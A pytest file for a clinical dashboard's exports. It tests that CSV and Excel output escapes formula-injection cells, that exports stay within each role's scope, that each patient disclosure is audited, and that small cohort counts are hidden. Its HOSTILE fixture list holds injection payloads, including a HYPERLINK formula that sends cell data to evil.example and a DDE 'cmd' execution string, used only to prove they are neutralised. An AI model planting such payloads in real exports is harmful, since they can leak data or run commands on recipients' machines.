"""Exports: formula-safe CSV and Excel, the caseload and cohort files, role scope, and each disclosure audited.

Expectations come from the requirements (OWASP CSV injection: a cell starting
with ``=``, ``+``, ``-``, ``@``, tab, CR or NUL is prefixed with ``'``; numbers
stay numbers; ONC 170.315(d)(11): every export of identifiable data is an
audit event naming user, patients and what was disclosed) and from queries of
the database written here.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import app_test as app_test_module

from surveillance import cohort, disclosure
from surveillance.access import PermissionDenied
from surveillance.exports import to_csv, to_xlsx
from tests.dashboard.conftest import login, new_app, page
from tests.dashboard.support import EN, identity

NOW = datetime(2026, 11, 27, 9, 0, tzinfo=timezone.utc)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tlead",
           "\rlead", "\x00lead"]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


# --------------------------------------------------------------------------- the writers (no database)


def test_hostile_cells_come_out_as_text_in_csv_and_xlsx_and_numbers_stay_numbers():
    rows = [[value, -1, 2.5, None] for value in HOSTILE]
    written_csv = _csv_rows(to_csv(["cell", "n", "x", "empty"], rows))
    written_xlsx = _xlsx_rows(to_xlsx(["cell", "n", "x", "empty"], rows))
    for k, value in enumerate(HOSTILE, start=1):
        assert written_csv[k][0] == "'" + value
        # XLSX cannot store control characters other than tab/CR/LF: NUL is shown as U+FFFD (and XML reads CR as LF)
        assert written_xlsx[k][0] == ("'" + value.replace("\x00", "\ufffd")).replace("\r", "\n")
        # -1 is a number, not text beginning with a minus: Excel keeps it numeric, so it is not escaped
        assert written_csv[k][1] == "-1" and written_xlsx[k][1] == -1
        assert written_xlsx[k][2] == 2.5 and written_xlsx[k][3:] in ([], [None]) and written_csv[k][3] == ""


def test_a_header_that_starts_a_formula_is_escaped_too():
    assert _csv_rows(to_csv(["=cmd", "ok"], []))[0] == ["'=cmd", "ok"]
    assert _xlsx_rows(to_xlsx(["=cmd", "ok"], []))[0] == ["'=cmd", "ok"]


def test_an_unknown_table_format_is_refused():
    with pytest.raises(ValueError, match="unknown export format"):
        disclosure.table_bytes("pdf", ["a"], [[1]], sheet="x")


# --------------------------------------------------------------------------- the caseload page, deferred downloads


def _keep_managers(monkeypatch) -> list[MediaFileManager]:
    managers: list[MediaFileManager] = []

    class Kept(MediaFileManager):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            managers.append(self)

    monkeypatch.setattr(app_test_module, "MediaFileManager", Kept)
    return managers


def _click(managers: list[MediaFileManager], button) -> bytes:
    """What the browser gets when the (deferred) download button is clicked: the callable runs now."""
    file_id = button.proto.deferred_file_id
    assert file_id, "the file is built on click, not on every rerun"
    url = managers[-1].execute_deferred(file_id)
    return managers[-1]._storage.get_file(Path(url).name).content


def _button(at, key: str):
    found = [b for b in at.get("download_button") if b.proto.id.endswith(key)]
    assert len(found) == 1, f"one download button {key}"
    return found[0]


def _events(engine, action: str) -> list:
    with engine.connect() as conn:
        return conn.execute(text("SELECT actor, patient_id, detail FROM audit_event WHERE action = :a ORDER BY id"),
                            {"a": action}).all()


@pytest.mark.db
def test_caseload_csv_and_excel_hold_the_rows_shown_neutralised_and_each_click_is_a_disclosure(app_db, monkeypatch):
    engine, nurse = app_db["engine"], app_db["users"]["nurse1"]
    with engine.connect() as conn:
        mine = dict(conn.execute(text("SELECT mrn, id FROM patient WHERE assigned_nurse_id = :n"), {"n": nurse}).all())
        target = conn.execute(text(
            "SELECT p.id FROM patient p JOIN risk_snapshot s ON s.patient_id = p.id WHERE p.assigned_nurse_id = :n "
            "AND s.active = :t AND s.open_alerts > 0 ORDER BY s.priority DESC LIMIT 1"), {"n": nurse, "t": True}).scalar()
    with engine.begin() as conn:
        conn.execute(text("UPDATE patient SET family_name = :f, given_name = :g WHERE id = :id"),
                     {"f": HOSTILE[0], "g": "@x", "id": target})
    managers = _keep_managers(monkeypatch)
    at = login(new_app(), engine, "nurse1")
    page(at, "caseload")
    assert not at.exception, at.exception
    assert _events(engine, "export.caseload") == [], "showing the page discloses nothing"
    table = next(f.value for f in at.dataframe if EN.t("caseload.col_mrn") in f.value.columns)
    shown_mrns = list(table[EN.t("caseload.col_mrn")])
    assert set(shown_mrns) <= set(mine), "only the nurse's patients"

    rows = _csv_rows(_click(managers, _button(at, "caseload_csv")))
    assert rows[0] == list(table.columns)
    assert [r[0] for r in rows[1:]] == shown_mrns, "exactly the rows shown, in the order shown"
    name_col = list(table.columns).index(EN.t("caseload.col_name"))
    by_mrn = {r[0]: r for r in rows[1:]}
    target_mrn = next(m for m, i in mine.items() if i == target)
    assert by_mrn[target_mrn][name_col] == "'" + HOSTILE[0] + " @x"
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    sheet = _xlsx_rows(_click(managers, _button(at, "caseload_xlsx")))
    assert [r[0] for r in sheet[1:]] == shown_mrns
    assert {r[0]: r for r in sheet[1:]}[target_mrn][name_col] == "'" + HOSTILE[0] + " @x"

    events = _events(engine, "export.caseload")
    assert len(events) == 2, "one disclosure per file"
    for event, fmt in zip(events, ["csv", "xlsx"], strict=True):
        detail = json.loads(event.detail)
        assert event.actor == "nurse1" and detail["format"] == fmt and detail["rows"] == len(shown_mrns)
        assert detail["patient_ids"] == sorted(mine[m] for m in shown_mrns)


# --------------------------------------------------------------------------- cohort extract


@pytest.mark.db
def test_physician_cohort_is_her_department_with_and_without_open_alerts_and_is_audited(app_db):
    engine = app_db["engine"]
    doc = identity(engine, "doc1")
    with engine.connect() as conn:
        expected = {r.mrn: r.open_alerts for r in conn.execute(text(
            "SELECT p.mrn, s.open_alerts FROM patient p JOIN risk_snapshot s ON s.patient_id = p.id "
            "WHERE p.department = :d AND s.active = :t"), {"d": doc.department, "t": True})}
        high = {r.mrn for r in conn.execute(text(
            "SELECT p.mrn FROM patient p JOIN risk_snapshot s ON s.patient_id = p.id "
            "WHERE p.department = :d AND s.active = :t AND s.tier = 'high'"), {"d": doc.department, "t": True})}
    assert any(v == 0 for v in expected.values()) and any(v > 0 for v in expected.values()), "fixture has both"
    ids, rows, cut = cohort.cohort_patients(engine, doc)
    assert not cut
    mrn, open_col = cohort.COLUMNS.index("mrn"), cohort.COLUMNS.index("open_alerts")
    assert {r[mrn]: r[open_col] for r in rows} == expected
    assert all(len(r) == len(cohort.COLUMNS) for r in rows)
    _, high_rows, _ = cohort.cohort_patients(engine, doc, tier="high")
    assert {r[mrn] for r in high_rows} == high
    _, few, cut = cohort.cohort_patients(engine, doc, limit=3)
    assert len(few) == 3 and cut, "a cut extract says so"

    content = disclosure.export_table(engine, doc, action="export.cohort", columns=cohort.COLUMNS, rows=rows,
                                      patient_ids=ids, file_format="xlsx", now=NOW)
    assert [r[mrn] for r in _xlsx_rows(content)[1:]] == [r[mrn] for r in rows]
    (event,) = _events(engine, "export.cohort")
    assert event.actor == "doc1" and json.loads(event.detail)["patient_ids"] == sorted(ids)


@pytest.mark.db
def test_unknown_scores_are_written_unknown_not_zero(app_db):
    engine = app_db["engine"]
    _, rows, _ = cohort.cohort_patients(engine, identity(engine, "doc1"))
    katagiri = cohort.COLUMNS.index("katagiri")
    with engine.connect() as conn:
        unscored = conn.execute(text(
            "SELECT COUNT(*) FROM risk_snapshot s JOIN patient p ON p.id = s.patient_id "
            "WHERE p.department = 'oncology' AND s.active = :t AND s.katagiri_mask = 0"), {"t": True}).scalar()
    assert sum(1 for r in rows if r[katagiri] == "unknown") == unscored
    assert all(r[katagiri] != "" for r in rows)


@pytest.mark.db
@pytest.mark.parametrize("username", ["nurse1", "lead1", "admin1"])
def test_only_physicians_get_the_identifiable_cohort(app_db, username):
    engine = app_db["engine"]
    with pytest.raises(PermissionDenied):
        cohort.cohort_patients(engine, identity(engine, username))


@pytest.mark.db
@pytest.mark.parametrize("username", ["lead1", "admin1"])
def test_roles_without_export_get_no_identifiable_file_and_only_a_denied_event(app_db, username):
    engine = app_db["engine"]
    with pytest.raises(PermissionDenied):
        disclosure.export_table(engine, identity(engine, username), action="export.caseload", columns=["mrn"],
                                rows=[["F0100001"]], patient_ids=[1], file_format="csv", now=NOW)
    with engine.connect() as conn:  # the refused attempt is audited (ASVS 7.2.2), with no patient ids disclosed
        events = conn.execute(text("SELECT actor, outcome, patient_id, detail FROM audit_event "
                                   "WHERE action = 'export.caseload'")).all()
    assert [(e.actor, e.outcome, e.patient_id) for e in events] == [(username, "denied", None)]
    assert "patient_ids" not in events[0].detail


@pytest.mark.db
def test_lead_cohort_counts_add_up_hide_small_cells_and_name_nobody(app_db):
    engine = app_db["engine"]
    lead = identity(engine, "lead1")
    with engine.connect() as conn:
        truth = {(r.site, r.tier): r.n for r in conn.execute(text(
            "SELECT COALESCE(p.primary_site, 'unknown') AS site, s.tier, COUNT(*) AS n FROM risk_snapshot s "
            "JOIN patient p ON p.id = s.patient_id WHERE s.active = :t GROUP BY 1, 2"), {"t": True})}
        mrns = {r[0] for r in conn.execute(text("SELECT mrn FROM patient"))}
    counts = cohort.cohort_counts(engine, lead)
    for (site, tier), n in truth.items():
        assert counts.loc[site, tier] == n
    assert counts.loc["all", "total"] == sum(truth.values())
    shown = cohort.cohort_counts_shown(counts)
    small = [(s, t) for (s, t), n in truth.items() if 0 < n < 5]
    assert small, "the fixture has small cells"
    for site, tier in small:
        assert shown.loc[site, tier] == "<5"
    content = disclosure.export_aggregate(engine, lead, columns=["primary_site", *shown.columns],
                                          rows=list(shown.reset_index().itertuples(index=False)), file_format="csv",
                                          now=NOW, filters={})
    cells = {c for row in _csv_rows(content) for c in row}
    assert not cells & mrns
    assert not {c for c in cells if c.isdigit() and 0 < int(c) < 5}, "no visible count of 1-4"
    (event,) = _events(engine, "export.cohort_aggregate")
    assert event.actor == "lead1" and event.patient_id is None


@pytest.mark.db
def test_nurse_cannot_take_the_lead_aggregate(app_db):
    with pytest.raises(PermissionDenied):
        cohort.cohort_counts(app_db["engine"], identity(app_db["engine"], "nurse1"))
